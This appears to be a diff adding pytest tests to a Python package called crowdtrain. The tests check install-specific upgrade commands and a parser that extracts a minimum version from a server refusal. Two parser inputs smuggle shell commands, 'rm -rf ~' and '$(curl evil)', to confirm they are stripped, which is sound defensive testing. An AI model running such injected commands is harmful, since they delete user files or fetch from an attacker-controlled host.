@@ -282,3 +282,62 @@ def test_the_wheel_installs_from_pypi_into_a_bare_venv_and_runs(
     facts = _check_installed(venv)
     monkeypatch.delenv("PYTHONPATH", raising=False)
     run_installed(venv, tmp_path, launcher, facts["version"])
+
+
+PY = "/opt/py 3/bin/python"  # a path with a space: every path in a command is quoted
+EDITABLE = {"url": "file:///home/v/crowd%20train", "dir_info": {"editable": True}}
+CHECKOUT = {"url": "file:///home/v/crowdtrain", "dir_info": {}}
+GIT = {"url": "https://example.org/crowdtrain.git", "vcs_info": {"vcs": "git", "commit_id": "ab12"}}
+WHEEL = {"url": "file:///tmp/crowdtrain-0.1.0-py3-none-any.whl", "archive_info": {"hashes": {}}}
+
+
+@pytest.mark.parametrize(
+    "direct_url, pipx, command",
+    [
+        (None, False, f"'{PY}' -m pip install -U 'crowdtrain>=0.2'"),  # from an index
+        (None, True, "pipx upgrade crowdtrain"),
+        (
+            EDITABLE,
+            False,
+            f"git -C '/home/v/crowd train' pull && '{PY}' -m pip install --editable '/home/v/crowd train'",
+        ),
+        (
+            EDITABLE,
+            True,
+            "git -C '/home/v/crowd train' pull && pipx install --force --editable '/home/v/crowd train'",
+        ),
+        (CHECKOUT, False, f"git -C /home/v/crowdtrain pull && '{PY}' -m pip install /home/v/crowdtrain"),
+        (GIT, False, f"'{PY}' -m pip install -U 'crowdtrain @ git+https://example.org/crowdtrain.git'"),
+        (GIT, True, "pipx install --force git+https://example.org/crowdtrain.git"),
+        (WHEEL, False, f"'{PY}' -m pip install -U NEW_WHEEL_OR_ITS_URL"),
+        (WHEEL, True, "pipx install --force NEW_WHEEL_OR_ITS_URL"),
+    ],
+)
+def test_the_upgrade_command_is_the_one_for_how_crowdtrain_was_installed(direct_url, pipx, command):
+    from crowdtrain.peer.machine.install import InstallFacts, upgrade_command
+
+    assert upgrade_command(InstallFacts(PY, direct_url, pipx), "0.2") == command
+
+
+def test_this_checkout_is_upgraded_with_git_pull_and_an_editable_install():
+    from crowdtrain.peer.machine.install import upgrade_hint
+
+    assert upgrade_hint("0.2") == (
+        f"upgrade crowdtrain here with: git -C {ROOT} pull && {sys.executable} -m pip install --editable {ROOT}"
+    )
+
+
+@pytest.mark.parametrize(
+    "refusal, minimum",
+    [
+        ("refused: FAILED_PRECONDITION: this run needs crowdtrain >= 0.2 and this peer runs 0.1.9", "0.2"),
+        ("this run needs crowdtrain >= 1.4.0rc1; upgrade", "1.4.0rc1"),
+        ("this run needs crowdtrain >= 0.2;rm -rf ~ and", "0.2"),  # only a version number is kept
+        ("this run needs crowdtrain >= $(curl evil) and", ""),
+        ("no minimum named", ""),
+    ],
+)
+def test_a_refusal_passes_on_only_a_well_formed_minimum_to_the_command(refusal, minimum):
+    from crowdtrain.peer.link.client import _minimum_named
+
+    assert _minimum_named(refusal) == minimum
